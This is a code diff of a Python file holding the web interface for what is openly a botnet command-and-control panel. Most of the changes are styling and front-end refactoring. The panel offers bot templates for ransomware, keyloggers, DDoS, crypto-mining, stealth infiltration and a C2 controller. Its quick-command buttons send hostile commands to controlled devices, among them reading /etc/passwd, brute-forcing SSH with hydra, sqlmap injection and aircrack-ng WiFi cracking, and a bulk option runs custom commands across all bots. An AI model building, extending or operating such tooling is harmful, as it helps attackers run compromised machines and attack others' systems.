+    /* Mobile-friendly tabs */
+    .command-tabs {
+        overflow-x: auto;
+        -webkit-overflow-scrolling: touch;
+    }
+    
+    /* Hide less critical info on mobile */
+    .device-info {
+        font-size: 11px;
+    }
+}
+
+/* Tablet optimization */
+@media (min-width: 769px) and (max-width: 1024px) {
+    .main-container {
+        grid-template-columns: 1fr 1fr;
+        padding: 1rem;
+    }
+    
+    .metrics-grid {
+        grid-template-columns: repeat(2, 1fr);
+    }
+}
+
+/* Touch-friendly improvements for all devices */
+* {
+    -webkit-tap-highlight-color: var(--accent-20);
+    touch-action: manipulation; /* Prevents double-tap zoom */
+}
+
+/* Smooth scrolling for all containers */
+.terminal, .device-list, .service-list, .file-list {
+    -webkit-overflow-scrolling: touch;
+    scroll-behavior: smooth;
+}
+
+.notification {
+    position: fixed;
+    top: 100px;
+    right: 20px;
+    background: var(--accent-90);
+    color: #0a0a0a;
+    padding: 1rem;
+    border-radius: 4px;
+    box-shadow: var(--shadow-glow);
+    z-index: 1000;
+    animation: slideIn 0.3s ease;
+    transform: translateZ(0);
+    backface-visibility: hidden;
+}
+
+@keyframes slideIn {
+    from { transform: translateX(100%); opacity: 0; }
+    to { transform: translateX(0); opacity: 1; }
+}
+
+@media (prefers-reduced-motion: reduce) {
+    .notification { animation: none; }
+}
+
+/* Set on body while the browser tab is hidden */
+body.paused, .paused *, .paused *::before, .paused *::after {
+    animation-play-state: paused !important;
+    transition: none !important;
+}
+
+.progress-bar {
+    width: 100%;
+    height: 4px;
+    background: var(--accent-20);
+    border-radius: 2px;
+    overflow: hidden;
+    margin: 0.5rem 0;
+}
+
+/* Set progress with style.transform = `scaleX(${pct / 100})`; animating width would re-layout every frame */
+.progress-fill {
+    width: 100%;
+    height: 100%;
+    background: var(--grad-accent-bar);
+    transform-origin: left;
+    transform: scaleX(0);
+    transition: transform 0.3s ease;
+    will-change: transform;
+}
+
+/* Bot Management Styles */
+.panel-controls {
+    display: flex;
+    gap: 0.5rem;
+}
+
+.bot-management {
+    margin-bottom: 1rem;
+}
+
+.bot-creation-section {
+    background: rgba(0, 0, 0, 0.3);
+    padding: 1rem;
+    border-radius: 4px;
+    margin-bottom: 1rem;
+    border: 1px solid var(--accent-30);
+}
+
+.bot-action-buttons {
+    display: flex;
+    gap: 0.5rem;
+    margin-top: 0.5rem;
+}
+
+.bot-control-header {
+    margin-bottom: 1.5rem;
+}
+
+.bot-overview-stats {
+    display: flex;
+    gap: 1rem;
+    margin-top: 1rem;
+}
+
+.stat-card {
+    background: rgba(0, 0, 0, 0.5);
+    padding: 1rem;
+    border-radius: 4px;
+    border: 1px solid var(--accent-30);
+    text-align: center;
+    flex: 1;
+    contain: layout paint style;
+}
+
+.stat-number {
+    font-size: 24px;
+    font-weight: bold;
+    color: var(--accent);
+}
+
+.stat-label {
+    font-size: 11px;
+    color: #666;
+    text-transform: uppercase;
+    margin-top: 0.5rem;
+}
+
+.bot-templates-section {
+    margin-bottom: 1.5rem;
+}
+
+.bot-templates-grid {
+    display: grid;
+    grid-template-columns: repeat(2, 1fr);
+    gap: 0.75rem;
+    margin-top: 0.75rem;
+}
+
+.bot-template-card {
+    background: rgba(0, 0, 0, 0.5);
+    border: 1px solid var(--accent-30);
+    border-radius: 4px;
+    padding: 1rem;
+    cursor: pointer;
+    transition: all 0.3s ease;
+    text-align: center;
+    content-visibility: auto;
+    contain-intrinsic-size: auto 140px;
+}
+
+.bot-template-card:hover {
+    background: var(--accent-10);
+    border-color: var(--accent);
+    transform: translateY(-2px);
+}
+
+.template-icon {
+    font-size: 24px;
+    margin-bottom: 0.5rem;
+}
+
+.template-name {
+    font-weight: bold;
+    color: var(--accent);
+    margin-bottom: 0.25rem;
+}
+
+.template-desc {
+    font-size: 11px;
+    color: #666;
+}
+
+.bulk-bot-operations {
+    margin-bottom: 1.5rem;
+}
+
+.bulk-controls {
+    display: flex;
+    gap: 0.5rem;
+    margin-top: 0.75rem;
+    flex-wrap: wrap;
+}
+
+.bulk-controls select {
+    flex: 1;
+    min-width: 150px;
+}
+
+.custom-command-area {
+    margin-top: 0.75rem;
+}
+
+.bot-network-operations {
+    margin-bottom: 1.5rem;
+}
+
+.network-operations-grid {
+    display: grid;
+    grid-template-columns: repeat(2, 1fr);
+    gap: 0.5rem;
+    margin-top: 0.75rem;
+}
+
+.operation-btn {
+    background: var(--info-10);
+    border: 1px solid var(--info);
+    color: var(--info);
+    padding: 0.75rem;
+    border-radius: 4px;
+    cursor: pointer;
+    transition: all 0.3s ease;
+    display: flex;
+    flex-direction: column;
+    align-items: center;
+    gap: 0.25rem;
+}
+
+.operation-btn:hover {
+    background: var(--info-20);
+    transform: scale(1.05);
+}
+
+.op-icon {
+    font-size: 18px;
+}
+
+.op-label {
+    font-size: 11px;
+    font-weight: bold;
+}
+
+.bot-results-area {
+    margin-bottom: 1rem;
+}
+
+.network-stats {
+    margin-top: 1rem;
+}
+
+.group-tag.active {
+    background: var(--accent);
+    color: #0a0a0a;
+}
+
+/* Promote hover-animated elements up front so the first hover doesn't create a layer mid-transition */
+@media (hover: hover) {
+    .device-item, .btn, .quick-cmd, .bot-template-card, .operation-btn {
+        will-change: transform;
+    }
+}
+
+/* Modal styles */
+.modal {
+    position: fixed;
+    z-index: 1000;
+    left: 0;
+    top: 0;
+    width: 100%;
+    height: 100%;
+    background-color: rgba(0,0,0,0.8);
+    display: flex;
+    align-items: center;
+    justify-content: center;
+}
+
+.modal-content {
+    background: var(--grad-surface);
+    border: 2px solid var(--accent);
+    border-radius: 12px;
+    max-width: 90%;
+    max-height: 90%;
+    box-shadow: 0 10px 30px var(--accent-30);
+}
+
+.modal-header {
+    display: flex;
+    justify-content: space-between;
+    align-items: center;
+    padding: 1rem;
+    border-bottom: 1px solid var(--accent);
+}
+
+.modal-header h3 {
+    margin: 0;
+    color: var(--accent);
+}
+
+.close {
+    color: var(--danger);
+    font-size: 28px;
+    font-weight: bold;
+    cursor: pointer;
+}
+
+.close:hover {
+    color: #ffffff;
+}
+
+.bot-control-section {
+    border-top: 1px solid #333;
+    padding-top: 0.5rem;
+}
+
+.bot-control-section h5 {
+    margin: 0 0 0.5rem 0;
+    color: var(--info);
+    font-size: 14px;
+}
+
+.bot-controls button {
+    font-size: 12px;
+    padding: 0.3rem 0.6rem;
+}
+"""
+
+# Content-hashed URL, so browsers can cache the stylesheet forever and a changed build gets a new one
+UI_CSS_BYTES = UI_CSS.encode("utf-8")
+UI_CSS_GZIP = gzip.compress(UI_CSS_BYTES, 6)
+UI_CSS_PATH = f"/static/control.{hashlib.blake2b(UI_CSS_BYTES, digest_size=8).hexdigest()}.css"
+
+UI_HTML = r"""<!DOCTYPE html>
+<html>
+<head>
+    <meta charset="utf-8">
+    <meta name="viewport" content="width=device-width, initial-scale=1.0, maximum-scale=5.0, user-scalable=yes">
+    <meta name="theme-color" content="#0a0a0a">
+    <meta name="apple-mobile-web-app-capable" content="yes">
+    <meta name="apple-mobile-web-app-status-bar-style" content="black-translucent">
+    <meta name="apple-mobile-web-app-title" content="Unified Control">
+    <meta name="description" content="Unified Device Control System - Professional Bot Network Management">
+    <title>🚀 Unified Control Center - Advanced Device Management</title>
+""" + f'    <link rel="stylesheet" href="{UI_CSS_PATH}">' + r"""
 </head>
 <body>
     <div class="matrix-bg"></div>
@@ -2923,15 +3282,20 @@ UI_HTML = r"""<!DOCTYPE html>
                 </div>
                 
                 <div class="device-groups">
-                    <div class="group-tag active" onclick="filterByGroup('all')">ALL BOTS</div>
-                    <div class="group-tag" onclick="filterByGroup('production')">PRODUCTION</div>
-                    <div class="group-tag" onclick="filterByGroup('staging')">STAGING</div>
-                    <div class="group-tag" onclick="filterByGroup('mobile')">MOBILE</div>
-                    <div class="group-tag" onclick="filterByGroup('servers')">SERVERS</div>
-                    <div class="group-tag" onclick="filterByGroup('scanners')">SCANNERS</div>
+                    <div class="group-tag active" data-group="all">ALL BOTS</div>
+                    <div class="group-tag" data-group="production">PRODUCTION</div>
+                    <div class="group-tag" data-group="staging">STAGING</div>
+                    <div class="group-tag" data-group="mobile">MOBILE</div>
+                    <div class="group-tag" data-group="servers">SERVERS</div>
+                    <div class="group-tag" data-group="scanners">SCANNERS</div>
                 </div>
             </div>
             
+            <!-- Row contents for the device list; filled with textContent by renderDeviceRow -->
+            <template id="deviceItemTpl">
+                <div><span class="device-status"></span><strong class="did"></strong> <span class="exec"></span></div>
+                <div class="device-info"></div>
+            </template>
             <div class="device-list" id="deviceList">
                 <!-- Bot devices will be populated here -->
             </div>
@@ -3006,26 +3370,26 @@ UI_HTML = r"""<!DOCTYPE html>
                 </div>
                 
                 <div class="quick-commands">
-                    <div class="quick-cmd" onclick="sendQuickCommand('uname -a')">SYSTEM INFO</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('ps aux | head -20')">PROCESSES</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('df -h')">DISK USAGE</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('free -h')">MEMORY</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('uptime')">UPTIME</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('whoami')">USER</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('ip addr show')">NETWORK INFO</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('netstat -tuln')">OPEN PORTS</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('nmap -sn 192.168.1.0/24')">NETWORK SCAN</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('curl -s ipinfo.io')">PUBLIC IP</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('cat /etc/passwd | head -10')">USERS</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('crontab -l')">CRON JOBS</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('ls -la /tmp')">TEMP FILES</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('find / -name \"*.log\" 2>/dev/null | head -10')">LOG FILES</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('ss -tuln')">CONNECTIONS</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('lsof -i')">OPEN FILES</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('nmap -sV -sC target_ip')">VULN SCAN</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('hydra -l admin -P passwords.txt ssh://target_ip')">BRUTE FORCE</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('sqlmap -u \"http://target/page?id=1\"')">SQL INJECTION</div>
-                    <div class="quick-cmd" onclick="sendQuickCommand('aircrack-ng -a2 -b target_mac -w wordlist.txt capture.cap')">WIFI CRACK</div>
+                    <div class="quick-cmd" data-cmd="uname -a">SYSTEM INFO</div>
+                    <div class="quick-cmd" data-cmd="ps aux | head -20">PROCESSES</div>
+                    <div class="quick-cmd" data-cmd="df -h">DISK USAGE</div>
+                    <div class="quick-cmd" data-cmd="free -h">MEMORY</div>
+                    <div class="quick-cmd" data-cmd="uptime">UPTIME</div>
+                    <div class="quick-cmd" data-cmd="whoami">USER</div>
+                    <div class="quick-cmd" data-cmd="ip addr show">NETWORK INFO</div>
+                    <div class="quick-cmd" data-cmd="netstat -tuln">OPEN PORTS</div>
+                    <div class="quick-cmd" data-cmd="nmap -sn 192.168.1.0/24">NETWORK SCAN</div>
+                    <div class="quick-cmd" data-cmd="curl -s ipinfo.io">PUBLIC IP</div>
+                    <div class="quick-cmd" data-cmd="cat /etc/passwd | head -10">USERS</div>
+                    <div class="quick-cmd" data-cmd="crontab -l">CRON JOBS</div>
+                    <div class="quick-cmd" data-cmd="ls -la /tmp">TEMP FILES</div>
+                    <div class="quick-cmd" data-cmd="find / -name &quot;*.log&quot; 2>/dev/null | head -10">LOG FILES</div>
+                    <div class="quick-cmd" data-cmd="ss -tuln">CONNECTIONS</div>
+                    <div class="quick-cmd" data-cmd="lsof -i">OPEN FILES</div>
+                    <div class="quick-cmd" data-cmd="nmap -sV -sC target_ip">VULN SCAN</div>
+                    <div class="quick-cmd" data-cmd="hydra -l admin -P passwords.txt ssh://target_ip">BRUTE FORCE</div>
+                    <div class="quick-cmd" data-cmd="sqlmap -u &quot;http://target/page?id=1&quot;">SQL INJECTION</div>
+                    <div class="quick-cmd" data-cmd="aircrack-ng -a2 -b target_mac -w wordlist.txt capture.cap">WIFI CRACK</div>
                 </div>
                 
                 <div class="command-input-area">
@@ -3092,7 +3456,7 @@ UI_HTML = r"""<!DOCTYPE html>
                 </div>
             </div>
             
-            <div id="device-terminalTab" class="tab-content" style="display: none;">
+            <div id="device-terminalTab" class="tab-content tab-hidden">
                 <div class="device-terminal-header">
                     <h3 style="color: #00ff9f; margin-bottom: 1rem;">🖥️ Direct Device Terminal Access</h3>
                     <div style="background: rgba(0,255,159,0.1); padding: 0.5rem; border-radius: 4px; margin-bottom: 1rem; border-left: 3px solid #00ff9f;">
@@ -3184,182 +3548,125 @@ UI_HTML = r"""<!DOCTYPE html>
                 </div>
             </div>
             
-            <div id="botsTab" class="tab-content" style="display: none;">
-                <div class="bot-control-header">
-                    <h3 style="color: #00ff9f; margin-bottom: 1rem;">🤖 Advanced Bot Network Control</h3>
-                    <div class="bot-overview-stats">
-                        <div class="stat-card">
-                            <div class="stat-number" id="networkBotCount">0</div>
-                            <div class="stat-label">Network Bots</div>
-                        </div>
-                        <div class="stat-card">
-                            <div class="stat-number" id="onlineBotCount">0</div>
-                            <div class="stat-label">Online</div>
-                        </div>
-                        <div class="stat-card">
-                            <div class="stat-number" id="executingBotCount">0</div>
-                            <div class="stat-label">Executing</div>
+            <div id="botsTab" class="tab-content tab-hidden">
+                <!-- Mounted on first open by mountBotsTab() -->
+                <template id="botsTabTpl">
+                    <div class="bot-control-header">
+                        <h3 style="color: #00ff9f; margin-bottom: 1rem;">🤖 Advanced Bot Network Control</h3>
+                        <div class="bot-overview-stats">
+                            <div class="stat-card">
+                                <div class="stat-number" id="networkBotCount">0</div>
+                                <div class="stat-label">Network Bots</div>
+                            </div>
+                            <div class="stat-card">
+                                <div class="stat-number" id="onlineBotCount">0</div>
+                                <div class="stat-label">Online</div>
+                            </div>
+                            <div class="stat-card">
+                                <div class="stat-number" id="executingBotCount">0</div>
+                                <div class="stat-label">Executing</div>
+                            </div>
                         </div>
                     </div>
-                </div>
-                
-                <div class="bot-templates-section">
-                    <h4 style="color: #00ff9f; margin-bottom: 0.5rem;">⚡ Advanced Bot Templates & Deployment</h4>
-                    <div class="bot-templates-grid" style="grid-template-columns: repeat(3, 1fr);">
-                        <div class="bot-template-card" onclick="deployBotType('mobile')">
-                            <div class="template-icon">📱</div>
-                            <div class="template-name">Termux Mobile</div>
-                            <div class="template-desc">Android with full Termux capabilities</div>
-                        </div>
-                        <div class="bot-template-card" onclick="deployBotType('server')">
-                            <div class="template-icon">🖥️</div>
-                            <div class="template-name">Server Bot</div>
-                            <div class="template-desc">Linux server with admin tools</div>
-                        </div>
-                        <div class="bot-template-card" onclick="deployBotType('scanner')">
-                            <div class="template-icon">🔍</div>
-                            <div class="template-name">Network Scanner</div>
-                            <div class="template-desc">Network reconnaissance & security</div>
-                        </div>
-                        <div class="bot-template-card" onclick="deployBotType('monitor')">
-                            <div class="template-icon">📊</div>
-                            <div class="template-name">Monitor Bot</div>
-                            <div class="template-desc">System monitoring & metrics</div>
-                        </div>
-                        <div class="bot-template-card" onclick="deployBotType('proxy')">
-                            <div class="template-icon">🌐</div>
-                            <div class="template-name">Proxy Bot</div>
-                            <div class="template-desc">Traffic routing & anonymization</div>
-                        </div>
-                        <div class="bot-template-card" onclick="deployBotType('stealth')">
-                            <div class="template-icon">👤</div>
-                            <div class="template-name">Stealth Bot</div>
-                            <div class="template-desc">Covert operations & infiltration</div>
-                        </div>
-                        <div class="bot-template-card" onclick="deployBotType('miner')">
-                            <div class="template-icon">⛏️</div>
-                            <div class="template-name">Mining Bot</div>
-                            <div class="template-desc">Cryptocurrency mining</div>
-                        </div>
-                        <div class="bot-template-card" onclick="deployBotType('ddos')">
-                            <div class="template-icon">💥</div>
-                            <div class="template-name">DDoS Bot</div>
-                            <div class="template-desc">Stress testing & load generation</div>
-                        </div>
-                        <div class="bot-template-card" onclick="deployBotType('keylogger')">
-                            <div class="template-icon">⌨️</div>
-                            <div class="template-name">Keylogger Bot</div>
-                            <div class="template-desc">Keystroke & data monitoring</div>
-                        </div>
-                        <div class="bot-template-card" onclick="deployBotType('ransomware')">
-                            <div class="template-icon">🔒</div>
-                            <div class="template-name">Ransomware Bot</div>
-                            <div class="template-desc">File encryption operations</div>
-                        </div>
-                        <div class="bot-template-card" onclick="deployBotType('botnet_controller')">
-                            <div class="template-icon">👑</div>
-                            <div class="template-name">C2 Controller</div>
-                            <div class="template-desc">Command & control master</div>
-                        </div>
-                        <div class="bot-template-card" onclick="deployBotType('web_crawler')">
-                            <div class="template-icon">🕷️</div>
-                            <div class="template-name">Web Crawler</div>
-                            <div class="template-desc">Automated scraping & data collection</div>
-                        </div>
-                        <div class="bot-template-card" onclick="deployBotType('social_media')">
-                            <div class="template-icon">📢</div>
-                            <div class="template-name">Social Media Bot</div>
-                            <div class="template-desc">Influence & automation operations</div>
+                    
+                    <div class="bot-templates-section">
+                        <h4 style="color: #00ff9f; margin-bottom: 0.5rem;">⚡ Advanced Bot Templates & Deployment</h4>
+                        <template id="botCardTpl">
+                            <div class="bot-template-card">
+                                <div class="template-icon"></div>
+                                <div class="template-name"></div>
+                                <div class="template-desc"></div>
+                            </div>
+                        </template>
+                        <div class="bot-templates-grid" style="grid-template-columns: repeat(3, 1fr);">
+                            <!-- Deployable templates are rendered from BOT_TEMPLATES -->
+                            <div class="bot-template-card" data-bot-type="custom" style="border: 2px dashed #00ff9f;">
+                                <div class="template-icon">🛠️</div>
+                                <div class="template-name">Custom Bot</div>
+                                <div class="template-desc">Create fully customized bot</div>
+                            </div>
                         </div>
-                        <div class="bot-template-card" onclick="deployBotType('iot_bot')">
-                            <div class="template-icon">🌐</div>
-                            <div class="template-name">IoT Bot</div>
-                            <div class="template-desc">IoT device control & exploitation</div>
+                        
+                        <template id="customBotCreatorTpl">
+                            <div id="customBotCreator" style="margin-top: 1rem; background: rgba(0,0,0,0.5); padding: 1rem; border-radius: 4px; border: 1px solid #00ff9f;">
+                                <h4 style="color: #00ff9f; margin-bottom: 0.5rem;">🛠️ Custom Bot Creator</h4>
+                                <div class="custom-bot-form">
+                                    <input type="text" id="customBotName" class="command-input" placeholder="Bot Name" style="margin-bottom: 0.5rem;">
+                                    <input type="text" id="customBotIcon" class="command-input" placeholder="Bot Icon (emoji)" style="margin-bottom: 0.5rem;">
+                                    <textarea id="customBotDesc" class="command-input" placeholder="Bot Description" style="margin-bottom: 0.5rem; resize: vertical; height: 60px;"></textarea>
+                                    <input type="text" id="customBotTags" class="command-input" placeholder="Tags (comma separated)" style="margin-bottom: 0.5rem;">
+                                    <textarea id="customBotCapabilities" class="command-input" placeholder="Capabilities (comma separated)" style="margin-bottom: 0.5rem; resize: vertical; height: 60px;"></textarea>
+                                    <textarea id="customBotScript" class="command-input" placeholder="Custom deployment script (optional)" style="margin-bottom: 0.5rem; resize: vertical; height: 80px;"></textarea>
+                                    <div class="bot-action-buttons">
+                                        <button class="btn" onclick="createCustomBot()">CREATE CUSTOM BOT</button>
+                                        <button class="btn btn-secondary" onclick="hideCustomBotCreator()">CANCEL</button>
+                                    </div>
+                                </div>
+                            </div>
+                        </template>
+                    </div>
+                    
+                    <div class="bulk-bot-operations">
+                        <h4 style="color: #00ff9f; margin-bottom: 0.5rem;">🔧 Bulk Bot Operations</h4>
+                        <div class="bulk-controls">
+                            <select id="bulkTargetSelect" class="command-input">
+                                <option value="all">All Bots</option>
+                                <option value="mobile">Mobile Bots</option>
+                                <option value="servers">Server Bots</option>
+                                <option value="scanners">Scanner Bots</option>
+                            </select>
+                            <select id="bulkActionSelect" class="command-input">
+                                <option value="status">Get Status</option>
+                                <option value="update">Update System</option>
+                                <option value="restart">Restart Service</option>
+                                <option value="scan_network">Scan Network</option>
+                                <option value="collect_info">Collect System Info</option>
+                                <option value="execute_custom">Execute Custom Command</option>
+                            </select>
+                            <button class="btn" onclick="executeBulkAction()">EXECUTE BULK</button>
                         </div>
-                        <div class="bot-template-card" onclick="showCustomBotCreator()" style="border: 2px dashed #00ff9f;">
-                            <div class="template-icon">🛠️</div>
-                            <div class="template-name">Custom Bot</div>
-                            <div class="template-desc">Create fully customized bot</div>
+                        
+                        <div class="custom-command-area" id="customCommandArea" style="display: none;">
+                            <input type="text" id="customBulkCommand" class="command-input" 
+                                   placeholder="Enter custom command for bulk execution">
                         </div>
                     </div>
                     
-                    <div id="customBotCreator" style="display: none; margin-top: 1rem; background: rgba(0,0,0,0.5); padding: 1rem; border-radius: 4px; border: 1px solid #00ff9f;">
-                        <h4 style="color: #00ff9f; margin-bottom: 0.5rem;">🛠️ Custom Bot Creator</h4>
-                        <div class="custom-bot-form">
-                            <input type="text" id="customBotName" class="command-input" placeholder="Bot Name" style="margin-bottom: 0.5rem;">
-                            <input type="text" id="customBotIcon" class="command-input" placeholder="Bot Icon (emoji)" style="margin-bottom: 0.5rem;">
-                            <textarea id="customBotDesc" class="command-input" placeholder="Bot Description" style="margin-bottom: 0.5rem; resize: vertical; height: 60px;"></textarea>
-                            <input type="text" id="customBotTags" class="command-input" placeholder="Tags (comma separated)" style="margin-bottom: 0.5rem;">
-                            <textarea id="customBotCapabilities" class="command-input" placeholder="Capabilities (comma separated)" style="margin-bottom: 0.5rem; resize: vertical; height: 60px;"></textarea>
-                            <textarea id="customBotScript" class="command-input" placeholder="Custom deployment script (optional)" style="margin-bottom: 0.5rem; resize: vertical; height: 80px;"></textarea>
-                            <div class="bot-action-buttons">
-                                <button class="btn" onclick="createCustomBot()">CREATE CUSTOM BOT</button>
-                                <button class="btn btn-secondary" onclick="hideCustomBotCreator()">CANCEL</button>
-                            </div>
+                    <div class="bot-network-operations">
+                        <h4 style="color: #00ff9f; margin-bottom: 0.5rem;">🌐 Network Operations</h4>
+                        <div class="network-operations-grid">
+                            <button class="operation-btn" data-op="scan">
+                                <div class="op-icon">🔍</div>
+                                <div class="op-label">SCAN NETWORKS</div>
+                            </button>
+                            <button class="operation-btn" data-op="collect">
+                                <div class="op-icon">📊</div>
+                                <div class="op-label">COLLECT INFO</div>
+                            </button>
+                            <button class="operation-btn" data-op="update">
+                                <div class="op-icon">⬆️</div>
+                                <div class="op-label">UPDATE BOTS</div>
+                            </button>
+                            <button class="operation-btn" data-op="restart">
+                                <div class="op-icon">🔄</div>
+                                <div class="op-label">RESTART ALL</div>
+                            </button>
                         </div>
                     </div>
-                </div>
-                
-                <div class="bulk-bot-operations">
-                    <h4 style="color: #00ff9f; margin-bottom: 0.5rem;">🔧 Bulk Bot Operations</h4>
-                    <div class="bulk-controls">
-                        <select id="bulkTargetSelect" class="command-input">
-                            <option value="all">All Bots</option>
-                            <option value="mobile">Mobile Bots</option>
-                            <option value="servers">Server Bots</option>
-                            <option value="scanners">Scanner Bots</option>
-                        </select>
-                        <select id="bulkActionSelect" class="command-input">
-                            <option value="status">Get Status</option>
-                            <option value="update">Update System</option>
-                            <option value="restart">Restart Service</option>
-                            <option value="scan_network">Scan Network</option>
-                            <option value="collect_info">Collect System Info</option>
-                            <option value="execute_custom">Execute Custom Command</option>
-                        </select>
-                        <button class="btn" onclick="executeBulkAction()">EXECUTE BULK</button>
-                    </div>
                     
-                    <div class="custom-command-area" id="customCommandArea" style="display: none;">
-                        <input type="text" id="customBulkCommand" class="command-input" 
-                               placeholder="Enter custom command for bulk execution">
-                    </div>
-                </div>
-                
-                <div class="bot-network-operations">
-                    <h4 style="color: #00ff9f; margin-bottom: 0.5rem;">🌐 Network Operations</h4>
-                    <div class="network-operations-grid">
-                        <button class="operation-btn" onclick="scanAllNetworks()">
-                            <div class="op-icon">🔍</div>
-                            <div class="op-label">SCAN NETWORKS</div>
-                        </button>
-                        <button class="operation-btn" onclick="collectSystemInfo()">
-                            <div class="op-icon">📊</div>
-                            <div class="op-label">COLLECT INFO</div>
-                        </button>
-                        <button class="operation-btn" onclick="updateAllBots()">
-                            <div class="op-icon">⬆️</div>
-                            <div class="op-label">UPDATE BOTS</div>
-                        </button>
-                        <button class="operation-btn" onclick="restartAllServices()">
-                            <div class="op-icon">🔄</div>
-                            <div class="op-label">RESTART ALL</div>
-                        </button>
-                    </div>
-                </div>
-                
-                <div class="bot-results-area">
-                    <h4 style="color: #00ff9f; margin-bottom: 0.5rem;">📋 Operation Results</h4>
-                    <div class="terminal" id="botResultsTerminal" style="max-height: 300px;">
-                        <div class="terminal-line terminal-success">
-                            <span class="terminal-timestamp">[BOT-NETWORK]</span> 
-                            🤖 Bot Network Control Center Ready
+                    <div class="bot-results-area">
+                        <h4 style="color: #00ff9f; margin-bottom: 0.5rem;">📋 Operation Results</h4>
+                        <div class="terminal" id="botResultsTerminal" style="max-height: 300px;">
+                            <div class="terminal-line terminal-success">
+                                <span class="terminal-timestamp">[BOT-NETWORK]</span> 
+                                🤖 Bot Network Control Center Ready
+                            </div>
                         </div>
                     </div>
-                </div>
+                </template>
             </div>
             
-            <div id="filesTab" class="tab-content" style="display: none;">
+            <div id="filesTab" class="tab-content tab-hidden">
                 <div class="file-drop-zone" onclick="document.getElementById('fileInput').click()" 
                      ondrop="handleFileDrop(event)" ondragover="handleDragOver(event)">
                     <div>📁 DROP FILES HERE OR CLICK TO UPLOAD</div>
@@ -3368,13 +3675,14 @@ UI_HTML = r"""<!DOCTYPE html>
                     </div>
                 </div>
                 <input type="file" id="fileInput" style="display: none;" onchange="uploadFile()">
+                <div class="progress-bar" id="uploadProgress" hidden><div class="progress-fill"></div></div>
                 
                 <div id="fileList">
                     <!-- Files will be populated here -->
                 </div>
             </div>
             
-            <div id="servicesTab" class="tab-content" style="display: none;">
+            <div id="servicesTab" class="tab-content tab-hidden">
                 <div class="service-list" id="serviceList">
                     <!-- Services will be populated here -->
                 </div>
@@ -3444,9 +3752,75 @@ UI_HTML = r"""<!DOCTYPE html>
         let commandCount = 0;
         let successfulCommands = 0;
         
+        // Elements that are always in the page, looked up once; lazily mounted tab content is not cached here
+        const els = {
+            terminal: document.getElementById('terminal'),
+            activityLog: document.getElementById('activityLog'),
+            commandInput: document.getElementById('commandInput'),
+            targetSelect: document.getElementById('targetSelect'),
+            totalCommands: document.getElementById('totalCommands'),
+            successRate: document.getElementById('successRate'),
+            cpuUsage: document.getElementById('cpuUsage'),
+            memoryUsage: document.getElementById('memoryUsage'),
+            systemLoad: document.getElementById('systemLoad'),
+            uptime: document.getElementById('uptime'),
+            terminalConnectionStatus: document.getElementById('terminalConnectionStatus'),
+            deviceList: document.getElementById('deviceList'),
+            fileList: document.getElementById('fileList'),
+            onlineCount: document.getElementById('onlineCount'),
+        };
+        
         // Enhanced API helper with retry logic and error handling
-        async function api(endpoint, options = {}, retries = 3) {
-            const url = `${endpoint}${endpoint.includes('?') ? '&' : '?'}token=${token}`;
+        // GET responses are shared for a second after they arrive; concurrent callers share one in-flight request
+        const API_CACHE_TTL = 1000;
+        const apiCache = new Map();
+        
+        function api(endpoint, options = {}, retries = 3) {
+            if ((options.method || 'GET').toUpperCase() !== 'GET') {
+                // Anything that changes server state makes cached reads stale
+                apiCache.clear();
+                return apiRequest(endpoint, options, retries);
+            }
+            
+            const cached = apiCache.get(endpoint);
+            if (cached && Date.now() - cached.time < API_CACHE_TTL) {
+                return cached.promise;
+            }
+            
+            const entry = { time: Infinity, promise: apiRequest(endpoint, options, retries) };
+            apiCache.set(endpoint, entry);
+            entry.promise.then(() => {
+                entry.time = Date.now();
+            }, () => {
+                // Failures are never served from the cache
+                if (apiCache.get(endpoint) === entry) apiCache.delete(endpoint);
+            });
+            return entry.promise;
+        }
+        
+        // Authenticated URL per endpoint, built once; URLSearchParams also escapes the token.
+        // Per-call params (e.g. an upload's file name) are escaped the same way but not memoized.
+        const apiUrls = new Map();
+        
+        function apiUrl(endpoint, params) {
+            if (params) {
+                const parsed = new URL(apiUrl(endpoint), location.origin);
+                Object.entries(params).forEach(([name, value]) => parsed.searchParams.set(name, value));
+                return parsed.pathname + parsed.search;
+            }
+            
+            let url = apiUrls.get(endpoint);
+            if (!url) {
+                const parsed = new URL(endpoint, location.origin);
+                parsed.searchParams.set('token', token);
+                url = parsed.pathname + parsed.search;
+                apiUrls.set(endpoint, url);
+            }
+            return url;
+        }
+        
+        async function apiRequest(endpoint, options = {}, retries = 3) {
+            const url = apiUrl(endpoint);
             performanceMetrics.apiCalls++;
             
             for (let attempt = 1; attempt <= retries; attempt++) {
@@ -3504,7 +3878,6 @@ UI_HTML = r"""<!DOCTYPE html>
                 border-radius: 4px;
                 box-shadow: 0 4px 20px rgba(0, 0, 0, 0.3);
                 z-index: 10000;
-                animation: slideIn 0.3s ease;
                 max-width: 300px;
                 font-size: 14px;
                 font-weight: 500;
@@ -3515,6 +3888,8 @@ UI_HTML = r"""<!DOCTYPE html>
         
         // Tab switching function
         window.switchTab = function(tabName) {
+            if (tabName === 'bots') mountBotsTab();
+            
             // Update tab buttons
             document.querySelectorAll('.tab').forEach(tab => {
                 tab.classList.remove('active');
@@ -3523,12 +3898,8 @@ UI_HTML = r"""<!DOCTYPE html>
             
             // Show/hide tab content
             document.querySelectorAll('.tab-content').forEach(content => {
-                content.style.display = 'none';
+                content.classList.toggle('tab-hidden', content.id !== tabName + 'Tab');
             });
-            const targetTab = document.getElementById(tabName + 'Tab');
-            if (targetTab) {
-                targetTab.style.display = 'block';
-            }
             
             // Initialize device terminal if switching to it
             if (tabName === 'device-terminal' && !deviceTerminalConnected) {
@@ -3538,96 +3909,303 @@ UI_HTML = r"""<!DOCTYPE html>
         
